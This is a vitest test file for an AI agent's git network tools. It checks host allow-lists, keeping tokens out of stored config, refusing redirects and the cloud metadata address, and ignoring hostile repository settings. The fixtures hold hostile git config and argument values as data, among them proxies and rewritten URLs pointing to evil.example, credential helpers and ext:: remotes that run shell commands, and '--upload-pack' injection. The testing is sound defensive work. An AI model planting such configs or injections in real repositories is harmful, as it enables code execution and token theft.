import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { netAllowSchema } from '../../../src/config/netAllow.js';
import { systemClock } from '../../../src/core/clock.js';
import { laneIdOf } from '../../../src/core/lane.js';
import { openSandbox } from '../../../src/runtime/sandbox/sandbox.js';
import type { GitNetwork } from '../../../src/runtime/tools/git/gitNetwork.js';
import { createGitTools } from '../../../src/runtime/tools/gitTools.js';
import type { ToolContext } from '../../../src/runtime/tools/toolDefinition.js';
import { laneWorkspace } from '../../../src/runtime/workspace/laneWorkspace.js';
import { describeWithSandbox } from '../../setup/describeWithSandbox.js';
import { makeScope } from '../memoryFixture.js';
import { type GitServer, openGitServer } from './gitServer.js';

const HOST = 'git.example.com';
const TOKEN = 'ghp_notARealToken0123456789';
const scope = makeScope();
const context: ToolContext = { signal: new AbortController().signal, agents: null, scope };
const sandbox = openSandbox({ clock: systemClock, hidden: [] });
let dataDir: string;
let workspace: string;
let server: GitServer;

beforeEach(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'waggle-gitnet-'));
  workspace = laneWorkspace(dataDir, laneIdOf(scope.address));
  mkdirSync(workspace, { recursive: true });
  server = await openGitServer(join(dataDir, 'server'), HOST);
  vi.stubEnv('NODE_EXTRA_CA_CERTS', server.certificate);
  server.git('hive.git', 'init', '--quiet', '--bare', '--initial-branch=main');
});

afterEach(async () => {
  vi.unstubAllEnvs();
  await server.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** As configured: the host is this machine's, so it has to be on both lists. */
const allowed = (more: Partial<GitNetwork> = {}): GitNetwork => ({
  hosts: [netAllowSchema.parse(`${HOST}:${server.port}`)],
  allow: [netAllowSchema.parse(`${HOST}:${server.port}`)],
  token: TOKEN,
  resolve: async () => ['127.0.0.1'],
  ...more,
});

async function git(name: string, args: Record<string, unknown> = {}, network = allowed()): Promise<string> {
  const tool = createGitTools({ dataDir, sandbox, network }).find((one) => one.name === `git_${name}`);
  if (tool === undefined) throw new Error(`no tool git_${name}`);
  return String(await tool.execute(tool.args.parse(args), context));
}

const put = (path: string, content: string) => writeFileSync(join(workspace, path), content);
const url = () => `https://${HOST}:${server.port}/hive.git`;

describeWithSandbox('git over the network', () => {
  it('pushes, clones and pulls where the operator allows it, with the token for that host', async () => {
    put('a.txt', 'one\n');
    await git('commit', { message: 'First' });
    expect(await git('push', { url: url() })).toMatch(/\[new branch\] +HEAD -> main/);
    expect(server.git('hive.git', 'log', '--format=%an: %s', 'main')).toBe('Ann: First\n');
    expect(server.credentials.at(-1)).toBe(`Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString('base64')}`);
    put('a.txt', 'two\n');
    await git('commit', { message: 'Second' });
    await git('push');
    rmSync(workspace, { recursive: true });
    mkdirSync(workspace);
    await git('pull', { url: url(), branch: 'main' });
    expect(readFileSync(join(workspace, 'a.txt'), 'utf8')).toBe('two\n');
    expect(await git('log')).toMatch(/: Second\n.*: First$/);
    expect(await git('pull', { branch: 'main' })).toContain('Already up to date');
    // Nothing of the token stays behind.
    const files = readdirSync(join(workspace, '.git'), { recursive: true, encoding: 'utf8' });
    expect(files.length).toBeGreaterThan(10);
    expect(readFileSync(join(workspace, '.git/config'), 'utf8')).not.toMatch(/Basic|x-access-token|ghp_/);
  });

  it('goes nowhere else, and says how to allow it', async () => {
    put('a.txt', 'one\n');
    await git('commit', { message: 'First' });
    await expect(git('push', { url: url() }, allowed({ hosts: [] }))).rejects.toThrow(/WAGGLE_GIT_HOSTS=github\.com/);
    const others = allowed({ hosts: [netAllowSchema.parse('github.com')] });
    await expect(git('push', { url: url() }, others)).rejects.toThrow(
      /git may not go to git\.example\.com:\d+; the operator/,
    );
    await expect(git('push', { url: url() }, allowed({ allow: [] }))).rejects.toThrow(/WAGGLE_NET_ALLOW/);
    const metadata = allowed({ resolve: async () => ['169.254.169.254'] });
    await expect(git('push', { url: url() }, metadata)).rejects.toThrow(/credentials of its machines/);
    expect(server.credentials).toEqual([]);
    await expect(git('push')).rejects.toThrow(/no remote origin over https .* give its url/);
  });

  it('follows no redirect, and shows the token to nobody then', async () => {
    put('a.txt', 'one\n');
    await git('commit', { message: 'First' });
    server.redirects.set(
      '/hive.git/info/refs',
      `https://${HOST}:${server.port}/other.git/info/refs?service=git-receive-pack`,
    );
    await expect(git('push', { url: url() })).rejects.toThrow(/302/);
    expect(server.credentials).toHaveLength(1);
  });

  it.each([
    ['a rewritten address', '[url "https://evil.example/"]\n\tinsteadOf = https://git.example.com\n'],
    ['a credential helper', '[credential]\n\thelper = "!touch /workspace/pwned"\n'],
    ['a proxy', '[http]\n\tproxy = http://evil.example:1\n[remote "origin"]\n\tproxy = http://evil.example:1\n'],
    ['programs of a remote', '[remote "origin"]\n\treceivepack = touch /workspace/pwned\n\tvcs = ext\n'],
    ['an open protocol', '[protocol]\n\tallow = always\n[remote "origin"]\n\tpushurl = ext::touch /workspace/pwned\n'],
  ])('heeds nothing of a repository with %s', async (_, config) => {
    put('a.txt', 'one\n');
    await git('commit', { message: 'First' });
    put('.git/config', `[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = ${url()}\n${config}`);
    await git('push');
    expect(server.git('hive.git', 'log', '--format=%s', 'main')).toBe('First\n');
    expect(readdirSync(workspace)).not.toContain('pwned');
  });

  it.each([
    'ext::sh -c id',
    'file:///workspace/other',
    '/workspace/other',
    'ssh://git@evil/x',
    'http://git.example.com/x',
  ])('has no way to %s as a remote of the repository', async (address) => {
    put('a.txt', 'one\n');
    await git('commit', { message: 'First' });
    put('.git/config', `[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = "${address}"\n`);
    await expect(git('push')).rejects.toThrow(/no remote origin over https/);
  });
});

describe('arguments of git_push and git_pull', () => {
  it.each([
    { url: 'https://user:secret@github.com/a/b' },
    { url: 'https://token@github.com/a/b' },
    { url: 'http://github.com/a/b' },
    { url: 'ssh://github.com/a/b' },
    { url: 'ext::sh -c id' },
    { url: '--upload-pack=id' },
    { url: 'https://github.com/a b' },
    { url: 'https://github.com/$(id)' },
    { remote: '--exec=id' },
    { remote: 'https://github.com' },
    { branch: '--force' },
    { branch: '+main' },
    { branch: 'a:b' },
  ])('refuse %o', (args) => {
    for (const name of ['git_push', 'git_pull']) {
      const tool = createGitTools({ dataDir, sandbox, network: allowed() }).find((one) => one.name === name);
      expect(tool?.args.safeParse(args).success).toBe(false);
    }
  });

  it('are high risks that need the network', () => {
    const tools = createGitTools({ dataDir, sandbox, network: allowed() }).filter(({ name }) => /push|pull/.test(name));
    expect(tools.map(({ risk, offlineCapable, mutating }) => [risk, offlineCapable, mutating])).toEqual([
      ['high', false, true],
      ['high', false, true],
    ]);
  });
});
